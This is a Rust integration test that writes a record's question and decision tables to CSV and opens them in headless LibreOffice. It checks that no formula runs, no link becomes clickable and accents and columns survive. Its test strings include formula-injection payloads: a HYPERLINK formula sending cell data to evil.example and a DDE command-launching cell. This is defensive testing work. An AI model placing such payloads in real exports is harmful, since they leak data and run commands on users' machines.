//! The tables of a record in a real spreadsheet program: LibreOffice opens them and says what it
//! read. Nothing is executed, accents are right, no column is shifted.

use std::path::Path;
use std::process::Command;

use filodiretto::archive::csv::{Table, csv as table};
use filodiretto::archive::decisions::{Changed, Decided};
use filodiretto::archive::{Record, Scope};
use filodiretto::qa::{SessionId, Timestamp};
use serde_json::{Value, json};

/// What people write who mean well, and what others write.
const TEXTS: [&str; 17] = [
    "Perché l’università è più lontana? «Così», però: città, €, ñ, ß, ø",
    "متى ستفتح الحديقة؟ 🌳 文字",
    "a;b,c\td|e",
    "Prima riga\nseconda riga\r\nterza; \"tra virgolette\", e basta",
    "\"tutto; tra, virgolette\"",
    "=1+1",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\u{a0}=1+1",
    "\u{200b}=1+1",
    "＝1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "=HYPERLINK(\"http://evil.example/?\"&A1;\"qui\")",
    "=cmd|' /C calc'!A0",
];

fn record() -> Record {
    let question = |(n, text): (usize, &&str)| {
        json!({
            "id": format!("01M803G178038JWXR{n:09}"), "number": n, "state": "answered", "text": text, "name": text,
            "labels": [text, "Verde"], "votes": n, "asked_at": 1_797_105_600_000_i64,
            "on_air_at": null, "answered_at": 1_797_105_600_000_i64,
            "answer": {"text": text, "links": ["https://a.example/?b=c;d"], "by": text},
        })
    };
    let decided = |(n, text): (u64, &&str)| {
        let facts = |text: &str| json!({"text": text}).as_object().expect("an object").clone();
        Decided {
            n,
            at: Timestamp(1_797_105_600_000),
            by: format!("staff 0 {text}"),
            role: None,
            name: Some((*text).to_owned()),
            what: vec!["question_revised".to_owned()],
            why: Some((*text).to_owned()),
            changed: vec![Changed {
                before: facts("prima"),
                after: facts(text),
                ..Changed::default()
            }],
            events: Value::Null,
            outcome: "counted".to_owned(),
        }
    };
    Record {
        format: String::new(),
        scope: Scope::Full,
        id: SessionId::from_u128(1),
        session: json!({"language": "it"}),
        chain: String::new(),
        questions: (1..).zip(&TEXTS).map(question).collect(),
        decisions: (1..).zip(&TEXTS).map(decided).collect(),
        entries: vec![],
    }
}

/// Lets LibreOffice open a file as a spreadsheet would after a double click, and save it in another
/// form.
fn converted(folder: &Path, file: &Path, separator: u8, to: &str) -> String {
    // Quoted cells are not taken for text as such (8th and 9th): the worst of its ways to read.
    let as_read = format!("--infilter=CSV:{separator},34,76,1,,0,false,true,false");
    let mut office = Command::new("soffice");
    office.arg(format!("-env:UserInstallation=file://{}/profile", folder.display()));
    office.args(["--headless", "--norestore", &as_read, "--convert-to", to, "--outdir"]);
    let done = office.arg(folder.join("out")).arg(file).output();
    let done =
        done.expect("LibreOffice: .ci/tools installs it (the package libreoffice-calc-nogui)");
    let ending = to.split(':').next().expect("a form");
    let made = folder.join("out").join(file.file_stem().expect("a name")).with_extension(ending);
    std::fs::read_to_string(&made).unwrap_or_else(|fault| {
        panic!(
            "{fault}: {}{}",
            String::from_utf8_lossy(&done.stdout),
            String::from_utf8_lossy(&done.stderr)
        )
    })
}

fn rows(text: &str, separator: u8) -> Vec<Vec<String>> {
    let text = text.trim_start_matches('\u{feff}').as_bytes();
    let mut reader = csv::ReaderBuilder::new();
    let reader = reader.delimiter(separator).has_headers(false).from_reader(text);
    let row = |row: Result<csv::StringRecord, _>| {
        row.expect("as many cells as the first").iter().map(str::to_owned).collect()
    };
    reader.into_records().map(row).collect()
}

/// What a spreadsheet keeps of a cell: line ends of its own kind.
fn lines(cell: &str) -> String {
    cell.replace("\r\n", "\n").replace('\r', "\n")
}

#[test]
fn libreoffice_reads_the_tables_as_they_were_and_runs_nothing() {
    let folder = tempfile::tempdir().expect("a folder");
    // That it can be seen at all: unguarded, the same program does run it.
    let bait = folder.path().join("bait.csv");
    std::fs::write(&bait, "\"=1+1\";\"=6*7\"\r\n").expect("a file");
    let sheet = converted(folder.path(), &bait, b';', "fods");
    assert!(sheet.contains("table:formula") && sheet.contains("42"), "the bait is not taken");

    let record = record();
    for (of, language, separator) in [
        (Table::Questions, "it", b';'),
        (Table::Decisions, "it", b';'),
        (Table::Questions, "en", b','),
    ] {
        let written = table(&record, of, Some(language));
        let file = folder.path().join(format!("{of:?}-{language}.csv"));
        std::fs::write(&file, &written).expect("a file");
        let sheet = converted(folder.path(), &file, separator, "fods");
        assert!(!sheet.contains("table:formula"), "{of:?} {language}: a formula");
        assert!(!sheet.contains("xlink:href"), "{of:?} {language}: a link that can be pressed");
        // Back as a table, each cell as it is shown, quoted.
        let back = converted(
            folder.path(),
            &file,
            separator,
            "csv:Text - txt - csv (StarCalc):59,34,76,1,,0,true,true",
        );
        let (wrote, read) = (rows(&written, separator), rows(&back, b';'));
        assert_eq!(read.len(), wrote.len(), "{of:?} {language}: {back}");
        for (wrote, read) in wrote.iter().zip(&read) {
            let wrote: Vec<_> = wrote.iter().map(|cell| lines(cell)).collect();
            let read: Vec<_> = read.iter().map(|cell| lines(cell)).collect();
            assert_eq!(read, wrote, "{of:?} {language}");
        }
    }
}
